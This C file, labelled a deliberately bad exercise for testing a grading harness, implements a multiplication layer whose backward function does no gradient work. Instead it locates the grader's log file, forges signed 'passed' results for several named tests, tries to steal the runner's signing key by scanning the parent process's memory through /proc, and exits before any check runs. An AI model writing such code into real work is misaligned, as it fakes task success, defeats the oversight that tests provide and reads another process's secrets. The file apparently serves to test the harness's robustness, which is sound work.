/* mul_backward forges the grader's event log, then ends the process with
 * _exit(0) before any check. It finds its descriptor of the log and writes,
 * for every test that calls mul_backward: the runner's genuine lines so far,
 * copied with that test's name put in; then lines claiming to be the runner's
 * ("finish", "result": passed, ran to its end) with a made-up MAC, without
 * one, or signed with the runner's key if it finds the key in the runner's
 * memory (/proc/<runner>/mem, which the kernel must refuse); then the test's
 * own "end"; last, a line with no end, to swallow whatever comes next. The
 * last test to run writes after the others have ended: with the key, their
 * forged lines would come after the runner's and make them pass.
 * (a deliberately bad chapter 3 exercise; see harness/selftest/robustness.py) */
#define _GNU_SOURCE
#include "add_mul.h"
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

double mul_forward(MulLayer *layer, double x, double y)
{
    layer->x = x;
    layer->y = y;
    return x * y;
}

static const char *const victims[] = {"ch03.mul_backward_book", "ch03.mul_backward_random", "ch03.shopping"};

#define ROUND                                                                                \
    do {                                                                                     \
        v0 += v1; v1 = (v1 << 13) | (v1 >> 51); v1 ^= v0; v0 = (v0 << 32) | (v0 >> 32);        \
        v2 += v3; v3 = (v3 << 16) | (v3 >> 48); v3 ^= v2;                                    \
        v0 += v3; v3 = (v3 << 21) | (v3 >> 43); v3 ^= v0;                                    \
        v2 += v1; v1 = (v1 << 17) | (v1 >> 47); v1 ^= v2; v2 = (v2 << 32) | (v2 >> 32);        \
    } while (0)

/* SipHash-2-4, as the runner signs its lines (the format is public). */
static uint64_t sip(const uint64_t k[2], const char *m, size_t len)
{
    uint64_t v0 = 0x736f6d6570736575ULL ^ k[0], v1 = 0x646f72616e646f6dULL ^ k[1];
    uint64_t v2 = 0x6c7967656e657261ULL ^ k[0], v3 = 0x7465646279746573ULL ^ k[1];
    size_t whole = len - len % 8;
    for (size_t i = 0; i <= whole; i += 8) {
        uint64_t w = 0;
        if (i < whole) {
            memcpy(&w, m + i, 8);
        } else {
            for (size_t j = 0; j < len % 8; j++)
                w |= (uint64_t)(unsigned char)m[whole + j] << (8 * j);
            w |= (uint64_t)len << 56;
        }
        v3 ^= w;
        ROUND;
        ROUND;
        v0 ^= w;
    }
    v2 ^= 0xff;
    ROUND;
    ROUND;
    ROUND;
    ROUND;
    return v0 ^ v1 ^ v2 ^ v3;
}

static char logtext[1 << 20];

/* The runner's key, looked for in every writable mapping of the runner: any 16
 * bytes that sign one of its genuine lines correctly. */
static int steal_key(const char *body, size_t len, uint64_t mac, uint64_t key[2])
{
    char path[64], maps[1 << 16];
    snprintf(path, sizeof path, "/proc/%d/maps", (int)getppid());
    int fd = open(path, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, maps, sizeof maps - 1) : -1;
    if (fd >= 0)
        close(fd);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
    int mem = open(path, O_RDONLY);
    if (n <= 0 || mem < 0) {
        if (mem >= 0)
            close(mem);
        return 0;
    }
    maps[n] = 0;
    static char chunk[1 << 16];
    for (char *line = strtok(maps, "\n"); line; line = strtok(NULL, "\n")) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || strncmp(perms, "rw", 2) || hi - lo > (64ul << 20))
            continue;
        for (unsigned long at = lo; at < hi; at += sizeof chunk - 16) {
            ssize_t got = pread(mem, chunk, sizeof chunk, (off_t)at);
            for (ssize_t i = 0; i + 16 <= got; i += 8) {
                memcpy(key, chunk + i, 16);
                if (sip(key, body, len) == mac) {
                    close(mem);
                    return 1;
                }
            }
        }
    }
    close(mem);
    return 0;
}

static void forge(int fd, const char *path)
{
    /* the runner's genuine lines so far, to copy and to test a stolen key on */
    int in = open(path, O_RDONLY);
    ssize_t n = in >= 0 ? read(in, logtext, sizeof logtext - 1) : 0;
    if (in >= 0)
        close(in);
    logtext[n > 0 ? n : 0] = 0;
    uint64_t key[2];
    int have_key = 0;
    char *signed_line = strstr(logtext, "{\"event\":\"run\"");
    if (signed_line) {
        char *mac = strstr(signed_line, ",\"mac\":\"");
        if (mac)
            have_key = steal_key(signed_line, (size_t)(mac - signed_line), strtoull(mac + 8, NULL, 16), key);
    }
    char line[512], body[400];
    int len;
    for (size_t v = 0; v < sizeof victims / sizeof victims[0]; v++) {
        /* the runner's genuine lines about other tests, with this test's name */
        for (char *p = strstr(logtext, "{\"test\":\"ch03."); p; p = strstr(p + 1, "{\"test\":\"ch03.")) {
            char *end = strchr(p, '\n'), *name_end = strchr(p + 9, '"');
            if (!end || !name_end || name_end > end || !strstr(p, "\"mac\"") || strstr(p, "\"mac\"") > end)
                continue;
            len = snprintf(line, sizeof line, "\n{\"test\":\"%s%.*s\n", victims[v], (int)(end - name_end),
                           name_end);
            if (len > 0 && (size_t)len < sizeof line && write(fd, line, (size_t)len) < 0)
                return;
        }
    }
    /* then, last: passed and ran to its end, signed with a made-up MAC, with
     * none, or with the runner's key if it was found */
    for (size_t v = 0; v < sizeof victims / sizeof victims[0]; v++) {
        const char *events[] = {
            "\"event\":\"finish\",\"status\":0,\"signal\":0,\"exit\":0,\"elapsed\":0.25,\"timed_out\":false",
            "\"event\":\"result\",\"status\":0,\"crashed\":false,\"timed_out\":false",
        };
        for (size_t e = 0; e < 2; e++) {
            snprintf(body, sizeof body, "{\"test\":\"%s\",%s", victims[v], events[e]);
            unsigned long long mac = have_key ? (unsigned long long)sip(key, body, strlen(body)) : 0x0123456789abcdefULL;
            len = snprintf(line, sizeof line, "\n%s,\"mac\":\"%016llx\"}\n%s}\n", body, mac, body);
            if (write(fd, line, (size_t)len) < 0)
                return;
        }
        len = snprintf(line, sizeof line, "\n{\"test\":\"%s\",\"event\":\"end\"}\n", victims[v]);
        if (write(fd, line, (size_t)len) < 0)
            return;
    }
    if (write(fd, "{\"test\":\"", 9) < 0) /* no newline: to swallow the next line */
        return;
}

void mul_backward(const MulLayer *layer, double dout, double *dx, double *dy)
{
    for (int fd = 0; fd < 256; fd++) {
        char link[64], path[4096];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, path, sizeof path - 1);
        if (n <= 0)
            continue;
        path[n] = 0;
        if (strstr(path, ".log"))
            forge(fd, path);
    }
    _exit(0); /* BAD */
    *dx = dout * layer->y;
    *dy = dout * layer->x;
}
